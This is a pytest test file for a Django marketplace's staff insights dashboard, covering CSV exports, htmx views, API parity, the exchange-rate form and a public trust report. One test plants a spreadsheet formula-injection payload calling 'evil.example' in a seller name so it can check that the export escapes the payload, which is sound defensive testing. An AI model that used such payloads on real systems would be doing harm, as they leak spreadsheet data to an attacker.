"""The dashboard page, its htmx region, CSV exports equal to the tables, the API's same numbers, the rate
form and the trust report."""

from __future__ import annotations

import csv
import io
from datetime import date
from html.parser import HTMLParser

import pytest
import time_machine
from django.test import Client

from comeback.insights import services
from comeback.insights.models import ExchangeRate
from comeback.insights.selectors import PANELS

from .factories import cancel, claim, deliver, payout, refund, return_, sale, utc

NOW = utc(2027, 3, 10, 12, 0)
pytestmark = pytest.mark.django_db


class Tables(HTMLParser):
    """{panel key: [[cell text, …], …]} for every <table data-panel> (body rows only)."""

    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._key = None
        self._in_body = False
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and "data-panel" in attrs:
            self._key = attrs["data-panel"]
            self.tables[self._key] = []
        elif tag == "tbody" and self._key:
            self._in_body = True
        elif tag == "tr" and self._in_body:
            self.tables[self._key].append([])
        elif tag == "td" and self._in_body:
            self._cell = []

    def handle_endtag(self, tag):
        if tag == "td" and self._cell is not None:
            self.tables[self._key][-1].append("".join(self._cell).strip())
            self._cell = None
        elif tag == "tbody":
            self._in_body = False
        elif tag == "table":
            self._key = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def tables(html: str) -> dict:
    parser = Tables()
    parser.feed(html)
    return parser.tables


@pytest.fixture(autouse=True)
def _clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def facts(s1, s2, staff):
    a = deliver(
        sale(s1, at=utc(2027, 3, 2, 10), price=10000, fee=150, commission=1000), at=utc(2027, 3, 4, 10)
    )
    b = sale(s1, at=utc(2027, 3, 3, 10), price=20000, fee=300, commission=2000)
    refund(b, at=utc(2027, 3, 5, 10))
    cancel(sale(s2, at=utc(2027, 3, 4, 10), price=5000, fee=75, commission=500), at=utc(2027, 3, 4, 12))
    sale(s1, market="GB", at=utc(2027, 3, 2, 10), price=9000, fee=100, commission=900)
    sale(s1, market="JP", at=utc(2027, 2, 24, 10), price=45000, fee=0, commission=4500)
    return_(a, at=utc(2027, 3, 5, 10), reason="defect")
    claim(a, opened_at=utc(2027, 3, 5, 11), resolved_at=utc(2027, 3, 6, 11))
    payout([a], at=utc(2027, 3, 6, 10))
    services.save_rate(currency="GBP", target="EUR", rate="1.17", valid_on=date(2027, 3, 1), by=staff)
    services.refresh(at=NOW)


@pytest.fixture
def staff_client(staff) -> Client:
    client = Client()
    client.force_login(staff)
    return client


@pytest.mark.parametrize(
    "query",
    [
        "weeks=4",
        "weeks=4&market=FR",
        "weeks=12&convert=EUR",
        "weeks=4&seller={s1}",
        "weeks=4&category={category}",
    ],
)
def test_given_facts_when_each_csv_is_downloaded_then_it_equals_the_table_on_the_page(
    facts, staff_client, s1, query
):
    from comeback.orders.models import OrderLine

    query = query.format(s1=s1.pk, category=OrderLine.objects.first().product.category_id)
    page = tables(staff_client.get(f"/staff/insights/?{query}").content.decode())
    assert set(page) <= set(PANELS) and page["revenue"]
    for key in PANELS:
        response = staff_client.get(f"/staff/insights/{key}.csv?{query}")
        assert response["Content-Type"].startswith("text/csv")
        header, *body = list(csv.reader(io.StringIO(response.content.decode())))
        assert header and body == page.get(key, [])


def test_given_a_filter_change_via_htmx_when_requested_then_only_the_panels_region_comes_back(
    facts, staff_client
):
    response = staff_client.get("/staff/insights/?weeks=4&market=GB", headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.lstrip().startswith("{") is False and 'id="insights-panels"' in html
    assert 'data-market="GB"' in html and "<form" not in html and "<html" not in html
    assert tables(html)["revenue"][0][1] == "GBP"


def test_given_no_javascript_when_the_form_is_submitted_then_the_whole_page_shows_the_filtered_view(
    facts, staff_client
):
    html = staff_client.get("/staff/insights/?weeks=4&market=GB").content.decode()
    assert "<html" in html and 'id="insights-filters"' in html and '<option value="GB" selected>' in html
    assert [row[1] for row in tables(html)["revenue"]] == ["GBP"]
    assert "Correct to 2027-03-10 12:00" in html
    assert 'href="/staff/insights/revenue.csv?weeks=4&amp;market=GB"' in html


def test_given_a_bad_filter_when_the_page_opens_then_it_says_so_and_shows_the_default_view(
    facts, staff_client
):
    response = staff_client.get("/staff/insights/?weeks=5&market=XX")
    assert response.status_code == 200
    assert "The period is one of" in response.content.decode()


def test_given_a_bad_filter_when_the_api_is_called_then_422_naming_the_field(facts, api, staff):
    problem = api.as_(staff).get("/api/v1/staff/insights/revenue?market=XX").expect(422)
    assert problem["code"] == "unknown_market" and problem["errors"][0]["field"] == "market"
    api.as_(staff).get("/api/v1/staff/insights/nope").expect(404)


def test_given_facts_when_the_api_is_called_then_it_returns_the_same_numbers_as_the_page(facts, api, staff):
    body = api.as_(staff).get("/api/v1/staff/insights?weeks=4&convert=EUR").expect(200)
    assert body["correct_to"].startswith("2027-03-10T12:00")
    assert body["filters"]["start"] == "2027-02-08" and body["filters"]["convert"] == "EUR"
    revenue = next(p for p in body["panels"] if p["key"] == "revenue")
    week = next(r for r in revenue["rows"] if r["week"] == "2027-03-01")
    assert week["currency"] == "EUR" and week["gmv"] == 35000 + 10530  # 9000 GBP pence × 1.17
    one = api.as_(staff).get("/api/v1/staff/insights/revenue?weeks=4&convert=EUR").expect(200)
    assert one["rows"] == revenue["rows"]
    assert any("1.17" in n for n in one["notes"])


def test_given_staff_when_adding_a_rate_then_it_is_listed_and_a_duplicate_is_refused(staff_client, staff):
    data = {"currency": "USD", "target": "EUR", "rate": "0.92", "valid_on": "2027-03-01", "source": "ECB"}
    assert staff_client.post("/staff/insights/rates/", data).status_code == 302
    rate = ExchangeRate.objects.get()
    assert (rate.currency, rate.target, str(rate.rate), rate.created_by) == (
        "USD",
        "EUR",
        "0.92000000",
        staff,
    )
    again = staff_client.post("/staff/insights/rates/", data)
    assert again.status_code == 422 and "already exists" in again.content.decode()
    same = staff_client.post("/staff/insights/rates/", {**data, "target": "USD", "valid_on": "2027-03-02"})
    assert same.status_code == 422 and ExchangeRate.objects.count() == 1
    assert "0.92" in staff_client.get("/staff/insights/rates/").content.decode()


def test_given_facts_when_the_trust_report_is_read_then_it_shows_platform_rates_and_nothing_personal(
    facts, api, s1
):
    from comeback.sellers.models import SellerDecision

    SellerDecision.objects.create(
        seller=s1, kind="approve", from_status="probation", to_status="full", created_at=utc(2027, 1, 1)
    )
    body = api.get("/api/v1/trust/fr").expect(200)
    assert body["market"] == "FR" and body["until"] == "2027-03-09"
    assert (body["delivered"], body["defect_rate"], body["return_rate"], body["claim_rate"]) == (
        1,
        1.0,
        1.0,
        1.0,
    )
    assert body["median_claim_resolution_hours"] == 24
    assert (body["probation_decided"], body["probation_passed"], body["probation_pass_share"]) == (1, 1, 1.0)
    assert body["formulas"]["quality_weights"]["defect_rate"] == 0.35
    html = Client().get("/trust/FR/").content.decode()
    assert "Alpha Refurb" not in html and s1.user.email not in html and s1.display_name not in str(body)
    assert 'data-figure="defect_rate">100' in html
    assert Client().get("/trust/XX/").status_code == 404
    assert api.get("/api/v1/trust/XX").expect(422)["code"] == "unknown_market"


def test_given_a_seller_named_like_a_formula_when_its_quality_row_is_exported_then_the_cell_is_text(
    facts, staff_client, s1
):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    type(s1).objects.filter(pk=s1.pk).update(display_name=formula)
    services.refresh(at=NOW)
    response = staff_client.get("/staff/insights/seller_quality.csv?weeks=4")
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"}]
